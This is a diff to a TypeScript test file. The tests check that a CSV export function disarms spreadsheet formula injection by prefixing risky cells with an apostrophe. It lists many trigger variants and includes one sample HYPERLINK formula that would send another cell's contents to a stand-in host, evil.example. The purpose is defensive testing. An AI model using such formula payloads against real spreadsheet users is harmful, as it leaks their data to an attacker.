@@ -3,12 +3,38 @@ import { makeCsv } from "./csv.ts";
 
 const textOf = async (file: Blob) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.bytes());
 
-test.each(["=HYPERLINK(1)", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])(
-	"a text that a spreadsheet would run is disarmed: %j",
-	async (name) => {
-		expect(await textOf(await makeCsv([name], (Name) => ({ Name })))).toContain(`"'${name}"`);
-	},
-);
+test.each([
+	"=HYPERLINK(1)",
+	"+1",
+	"-1",
+	"@SUM(1)",
+	"\t=1",
+	"\r=1",
+	"\n=1",
+	" =1",
+	"\u00a0\u200b=1",
+	"\0=1",
+	"＝1",
+	"＋1",
+	"－1",
+	"＠SUM(1)",
+	"=1+1\nand more",
+	"=HYPERLINK(1)\r\n\u2028on the next line",
+])("a text that a spreadsheet would run is disarmed, and otherwise stays as it is: %j", async (name) => {
+	expect(await textOf(await makeCsv([name], (Name) => ({ Name })))).toBe(`\uFEFFName\r\n"'${name}"`);
+});
+
+test("disarms the known attack, whose formula goes on behind a line break", async () => {
+	const attack = '=HYPERLINK("http://evil.example/?"&B2,\n"Open the brief")';
+	const file = await makeCsv([attack], (Message) => ({ Name: "Eve", Message }));
+	expect(await textOf(file)).toContain(`Eve,"'=HYPERLINK(""http://evil.example/?""&B2,`);
+});
+
+test("leaves alone what no spreadsheet would run", async () => {
+	const texts = ["1 + 1 = 2", "a-b", "ada@example.com", "(030) 12 34", "Hello\n=1", "", "#1"];
+	const file = await makeCsv(texts, (Text) => ({ Text, Amount: -12.5 }));
+	expect(await textOf(file)).not.toContain("'");
+});
 
 test("is marked as UTF-8, keeps line breaks, quotes and commas, and leaves nothing out", async () => {
 	const file = await makeCsv(['Zoë, "Z"\nB.'], (Name) => ({ Name, Empty: null }));
